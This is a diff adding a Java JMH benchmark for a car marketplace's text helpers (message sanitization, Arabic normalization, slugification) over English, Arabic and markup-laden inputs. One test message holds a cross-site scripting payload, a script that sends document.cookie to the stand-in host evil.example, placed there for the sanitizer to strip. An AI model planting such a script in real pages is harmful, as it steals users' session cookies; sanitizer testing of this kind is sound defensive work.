@@ -0,0 +1,85 @@
+package com.caryo.marketplace.benchmark;
+
+import com.caryo.marketplace.service.MessageSanitizationService;
+import com.caryo.marketplace.util.ArabicTextUtils;
+import com.caryo.marketplace.util.SlugUtils;
+import org.openjdk.jmh.annotations.Benchmark;
+import org.openjdk.jmh.annotations.BenchmarkMode;
+import org.openjdk.jmh.annotations.Fork;
+import org.openjdk.jmh.annotations.Level;
+import org.openjdk.jmh.annotations.Measurement;
+import org.openjdk.jmh.annotations.Mode;
+import org.openjdk.jmh.annotations.OutputTimeUnit;
+import org.openjdk.jmh.annotations.Param;
+import org.openjdk.jmh.annotations.Scope;
+import org.openjdk.jmh.annotations.Setup;
+import org.openjdk.jmh.annotations.State;
+import org.openjdk.jmh.annotations.Warmup;
+
+import java.util.Map;
+import java.util.concurrent.TimeUnit;
+
+/**
+ * The per-string text helpers on the request path:
+ *
+ * <ul>
+ *   <li>{@code sanitizeMessage}: {@link MessageSanitizationService#sanitize}
+ *       on a chat message</li>
+ *   <li>{@code normalizeArabic}: {@link ArabicTextUtils#normalizeArabicText},
+ *       applied to every message and email template variable</li>
+ *   <li>{@code slugify}: {@link SlugUtils#slugify} on a title</li>
+ * </ul>
+ *
+ * <p>{@code text} selects English, Arabic, or English with markup that the
+ * sanitizer has to strip.</p>
+ */
+@State(Scope.Benchmark)
+@BenchmarkMode(Mode.AverageTime)
+@OutputTimeUnit(TimeUnit.NANOSECONDS)
+@Warmup(iterations = 3, time = 2)
+@Measurement(iterations = 5, time = 2)
+@Fork(1)
+public class TextProcessingBenchmark {
+
+    private static final Map<String, String> MESSAGES = Map.of(
+            "en", "Hi, is the Camry still available? I can come to see it in Damascus tomorrow at 5pm "
+                    + "and would like to know whether the price of $14,500 is negotiable.",
+            "ar", "مرحبا، هل السيارة ما زالت متوفرة؟ أستطيع المجيء لرؤيتها في دمشق غدا الساعة الخامسة "
+                    + "وأود أن أعرف إذا كان السعر قابلا للتفاوض.",
+            "html", "Hi, is it still available? <a href=\"javascript:alert(1)\" onclick=\"steal()\">photos</a> "
+                    + "<script>document.location='https://evil.example/?c='+document.cookie</script> thanks!");
+
+    private static final Map<String, String> TITLES = Map.of(
+            "en", "Mercedes-Benz C-Class 2019 – Low Mileage, Full Options",
+            "ar", "مرسيدس بنز سي كلاس ٢٠١٩ فل أوبشن",
+            "html", "Mercedes-Benz <C-Class> 2019 & \"Full Options\"");
+
+    @Param({"en", "ar", "html"})
+    private String text;
+
+    private MessageSanitizationService sanitizationService;
+    private String message;
+    private String title;
+
+    @Setup(Level.Trial)
+    public void setUp() {
+        sanitizationService = new MessageSanitizationService();
+        message = MESSAGES.get(text);
+        title = TITLES.get(text);
+    }
+
+    @Benchmark
+    public String sanitizeMessage() {
+        return sanitizationService.sanitize(message);
+    }
+
+    @Benchmark
+    public String normalizeArabic() {
+        return ArabicTextUtils.normalizeArabicText(message);
+    }
+
+    @Benchmark
+    public String slugify() {
+        return SlugUtils.slugify(title);
+    }
+}